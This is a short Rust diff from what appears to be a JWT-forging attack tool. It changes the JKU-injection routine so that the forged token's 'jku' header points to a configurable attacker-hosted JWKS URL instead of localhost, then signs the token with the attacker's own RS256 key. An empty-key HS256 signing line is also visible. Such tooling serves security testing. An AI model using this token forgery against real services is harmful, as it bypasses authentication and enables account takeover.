@@ -75,7 +75,7 @@ pub(super) async fn forge(
             jws::sign_hs256(b"", &header, claims)
         }
         Attack::JkuInjection => {
-            let jku = format!("http://127.0.0.1:{}/campaigns/{campaign}/jwks.json", attacker.port);
+            let jku = format!("{}/campaigns/{campaign}/jwks.json", attacker.here);
             let header = json!({ "alg": "RS256", "jku": jku, "kid": own_key::ID, "typ": "JWT" });
             let key = own_key::own_key(attacker).await.ok_or(Failure::NoKey)?;
             key.sign_rs256(&header, claims).ok_or(Failure::NoKey)?
